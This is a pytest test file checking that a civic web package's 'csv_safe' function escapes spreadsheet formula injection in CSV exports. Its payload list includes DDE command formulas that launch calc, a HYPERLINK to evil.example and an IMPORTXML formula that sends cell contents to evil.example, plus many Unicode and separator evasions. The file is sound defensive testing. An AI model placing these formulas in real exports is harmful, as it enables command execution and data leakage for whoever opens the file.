"""Cells of exports: no spreadsheet runs what a citizen wrote."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wagtail_civic.text import csv_safe

pytestmark = pytest.mark.alike

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "@=1",
    "-2+3+cmd|' /C calc'!D2",
    "+cmd|' /C calc'!D2",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    "\ntext",
    " =1",
    "   +1",
    "\u00a0=1",
    "\u3000=1",
    "\u2003=1",
    "\u200b=1",
    "\ufeff=1",
    "\u200e=1",
    "\x00=1",
    "\x0b=1",
    "\x1f=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " ＝1",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "−1",
    '"=1',
    '""=1',
    '" =1"',
    "a,=1",
    "a, =1",
    "a;=1",
    "a;\u00a0=1",
    "a|=1",
    "a\t=1",
    "a\n=1",
    "a\r\n=1",
    'a";=1',
    'a,"=1',
    "a，＝1",
    "a；＝1",
    "a;b;c;@SUM(1)",
    ";=1",
    "=1;=2;=3",
    "a;;=1",
    "a; ;-1",
    "\t\t\t=1",
    "+33 6 12 34 56 78",
    "-",
    "=",
]
STARTS_A_FORMULA = re.compile("[=+@\u2212\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\t\r-]")


def cells(text: str) -> list[str]:
    """Every cell that some spreadsheet, with some separator, may see in this text."""
    found = [text]
    for separator in ",;|\t\r\n，；":
        found = [part for cell in found for part in [cell, *cell.split(separator)]]
    blanks = ' \u00a0\u3000\u2003\u200b\ufeff\u200e\x00\x0b\x1f"\n'
    return [one for cell in found for one in (cell, cell.strip(blanks)) if one not in ("\t", "\r")]


def starting_formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if STARTS_A_FORMULA.match(cell.lstrip(" "))]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_starts_a_formula(formula):
    safe = csv_safe(formula)
    assert STARTS_A_FORMULA.match(formula.strip("\u00a0 ")[:1]) is None or safe.startswith("'")
    assert not [cell for cell in starting_formulas(safe) if cell.strip("\t\r\n ")]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_starts_a_formula_in_a_file_read_with_another_separator(formula, separator):
    file = io.StringIO()
    csv.writer(file).writerow(["Marie", csv_safe(formula), "75011"])
    for row in csv.reader(file.getvalue().splitlines(), delimiter=separator):
        assert not [cell for cell in row if STARTS_A_FORMULA.match(cell.strip().strip('"'))]


@pytest.mark.parametrize(
    "text",
    [
        "Marie",
        "a=b",
        "1+1",
        "marie@orange.fr",
        "Anne-Marie",
        "'=1",
        "a, b; c",
        "",
        "l'an 2000 = fin",
    ],
)
def test_an_ordinary_cell_is_left_as_it_is(text):
    assert csv_safe(text) == text


@pytest.mark.parametrize("value", [0, -5, 1.5, -1.5, True])
def test_a_number_stays_a_number(value):
    assert csv_safe(value) is value


def test_nothing_is_an_empty_cell():
    assert csv_safe(None) == ""


@given(st.text(alphabet="=+-@;,|\t\r\n \"'a＝", max_size=12))
def test_a_safe_cell_stays_as_it_is(text):
    assert csv_safe(csv_safe(text)) == csv_safe(text)


@given(st.text(alphabet="=+-@;,| a＝", max_size=12))
def test_no_mixture_starts_a_formula(text):
    assert not starting_formulas(csv_safe(text))
